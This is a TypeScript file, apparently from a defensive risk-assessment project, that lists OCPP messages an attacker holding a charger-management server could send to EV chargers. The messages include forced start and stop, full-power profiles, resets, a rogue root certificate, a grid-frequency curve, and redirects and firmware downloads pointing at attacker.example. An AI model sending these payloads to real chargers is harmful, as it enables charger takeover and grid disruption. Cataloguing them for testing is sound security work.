import { vendorId } from '@interlock/contract'
import { inHours, plus, toIso, watts, type Instant } from '@interlock/kernel'
import type { Action } from '@interlock/ocpp'
import { toChargingProfile } from '@interlock/power'

/** One charger, as the attacker sees it. */
export type Prey = {
  readonly ratingWatts: number
  readonly transactionId: string | undefined
}
/** What the attacker has to put into a message. */
export type Means = {
  readonly now: Instant
  /** A certificate of the attacker's own, PEM. */
  readonly certificatePem: string
  /** An image that the supervisor has in its register, SHA-256 in hex. */
  readonly firmwareSha256: string
}

/** One thing that the holder of the CSMS may tell a charger to do. */
export type TakeoverCommand = {
  /** The row of the risk table. */
  readonly on: string
  /** The OCPP action that carries it. */
  readonly action: Action
  /** Sets two commands of one row apart. */
  readonly how: string
  /** The EVSE it is addressed to; 0 is the whole charger. */
  readonly evse: 0 | 1
  /** Worst change of load that it can make by itself, in ratings of the charger; off and on are two. */
  readonly swings: 0 | 1 | 2
  readonly payload: (prey: Prey, means: Means) => Record<string, unknown>
}

const ofOneEvse: readonly Action[] = [
  'RequestStopTransaction',
  'RequestStartTransaction',
  'SetChargingProfile',
  'ClearChargingProfile',
  'DataTransfer',
]

/**
 * Every critical command there is, each asking for the largest change the charger can make, now. A
 * test holds it against the risk table.
 */
export const takeoverCommands: readonly TakeoverCommand[] = [
  command('RequestStopTransaction', '', 1, ({ transactionId = 'none' }) => ({ transactionId })),
  command('RequestStartTransaction', '', 1, () => ({
    remoteStartId: 1,
    evseId: 1,
    idToken: { idToken: 'ATTACKER', type: 'Central' },
  })),
  command('SetChargingProfile', '', 1, fullPower),
  command('ClearChargingProfile', '', 1, () => ({
    chargingProfileCriteria: { evseId: 1, chargingProfilePurpose: 'TxDefaultProfile' },
  })),
  command('Reset', 'Immediate', 2, () => ({ type: 'Immediate' })),
  command('Reset', 'OnIdle', 2, () => ({ type: 'OnIdle' })),
  command('ChangeAvailability', 'Inoperative', 1, () => ({ operationalStatus: 'Inoperative' })),
  command('SetVariables', 'NoRandomDelay', 0, () =>
    variable('SmartChargingCtrlr', 'RandomDelaySecondsMax', '0'),
  ),
  command('SetVariables', 'Silence', 0, () =>
    variable('OCPPCommCtrlr', 'HeartbeatInterval', '86400'),
  ),
  command('SetNetworkProfile', 'Downgrade', 0, () => networkProfile(1, 'ws://attacker.example/')),
  command('SetNetworkProfile', 'Redirect', 0, () => networkProfile(3, 'wss://attacker.example/')),
  command('UpdateFirmware', 'OwnImage', 2, (_, means) => firmware('0'.repeat(64), means)),
  command('UpdateFirmware', 'RegisteredImage', 2, (_, means) =>
    firmware(means.firmwareSha256, means),
  ),
  command('InstallCertificate', 'CsmsRoot', 0, (_, { certificatePem: certificate }) => ({
    certificateType: 'CSMSRootCertificate',
    certificate,
  })),
  command('InstallCertificate', 'OtherRoot', 0, (_, { certificatePem: certificate }) => ({
    certificateType: 'V2GRootCertificate',
    certificate,
  })),
  command('DeleteCertificate', '', 0, () => ({
    certificateHashData: {
      hashAlgorithm: 'SHA256',
      issuerNameHash: '0'.repeat(64),
      issuerKeyHash: '0'.repeat(64),
      serialNumber: '1',
    },
  })),
  { ...command('DataTransfer', '', 0, frequencyCurve), on: 'FrequencyCurve' },
]

export const nameOf = ({ on, how }: Pick<TakeoverCommand, 'on' | 'how'>): string =>
  how === '' ? on : `${on} ${how}`

function command(
  action: Action,
  how: string,
  swings: TakeoverCommand['swings'],
  payload: TakeoverCommand['payload'],
): TakeoverCommand {
  return { on: action, action, how, evse: ofOneEvse.includes(action) ? 1 : 0, swings, payload }
}

/** In the place of what the operator has planned, where a car is plugged in. */
function fullPower({ ratingWatts, transactionId }: Prey, { now }: Means): Record<string, unknown> {
  const schedule = {
    from: now,
    until: plus(now, inHours(1)),
    periods: [{ from: now, limitWatts: watts(ratingWatts) }],
  }
  const place =
    transactionId === undefined
      ? ({ id: 666, stackLevel: 8, purpose: 'TxDefaultProfile' } as const)
      : ({ id: 666, stackLevel: 8, purpose: 'TxProfile', transactionId } as const)
  return { evseId: 1, chargingProfile: toChargingProfile(schedule, place) }
}

const variable = (component: string, name: string, attributeValue: string) => ({
  setVariableData: [{ attributeValue, component: { name: component }, variable: { name } }],
})

const networkProfile = (securityProfile: number, ocppCsmsUrl: string) => ({
  configurationSlot: 1,
  connectionData: {
    ocppVersion: 'OCPP20',
    ocppTransport: 'JSON',
    ocppCsmsUrl,
    messageTimeout: 30,
    securityProfile,
    ocppInterface: 'Wired0',
  },
})

const firmware = (sha256: string, { now, certificatePem }: Means) => ({
  requestId: 1,
  firmware: {
    location: `https://attacker.example/${sha256}`,
    retrieveDateTime: toIso(now),
    installDateTime: toIso(now),
    signingCertificate: certificatePem,
    signature: 'AAAA',
  },
})

/** Full power but for a fall in frequency that never ends. */
export function frequencyCurve(_: Prey, { now }: Pick<Means, 'now'>): Record<string, unknown> {
  const data = {
    evse: 1,
    direction: 'import',
    points: [
      { hertz: 45, percent: 0 },
      { hertz: 55, percent: 100 },
    ],
    deadbandHertz: 0,
    from: toIso(now),
    until: toIso(plus(now, inHours(1))),
    durationMillisMax: 1_800_000,
  }
  return { vendorId, messageId: 'FrequencyCurve', data }
}
